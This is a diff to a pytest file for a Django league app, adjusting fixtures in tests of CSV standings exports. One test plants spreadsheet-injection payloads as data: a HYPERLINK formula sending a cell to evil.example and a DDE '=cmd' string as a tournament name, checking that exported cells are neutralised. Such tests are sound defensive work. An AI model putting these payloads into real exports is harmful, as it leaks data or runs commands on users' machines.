@@ -13,8 +13,8 @@ import pytest
 from django.contrib.auth.models import User
 from rest_framework.test import APIClient
 
-from club import domain, services
-from tests.club.api.conftest import NAMES, Season
+from club import domain
+from tests.club.api.conftest import NAMES, Season, club_caught_up
 from tests.club.helpers import season_tournament
 from tests.web.api import error
 
@@ -257,7 +257,7 @@ def test_the_season_table_as_csv(season: Season, anon: APIClient) -> None:
 
 
 def test_the_csv_cells_are_safe_for_a_spreadsheet(
-    olga: User, official: APIClient, django_capture_on_commit_callbacks: Any
+    committed_db: None, olga: User, official: APIClient, django_capture_on_commit_callbacks: Any
 ) -> None:
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     tid = season_tournament(
@@ -266,7 +266,7 @@ def test_the_csv_cells_are_safe_for_a_spreadsheet(
         on_commit=django_capture_on_commit_callbacks,
         name="=cmd|' /C calc'!A0",
     )
-    services.club_sync()
+    club_caught_up()
     league = official.post("/api/leagues/", {"name": "-Season"}).json()["id"]
     official.post(f"/api/leagues/{league}/tournaments/", {"tournament": str(tid)})
     rows = _csv_rows(official.get(f"/api/leagues/{league}/standings.csv"))
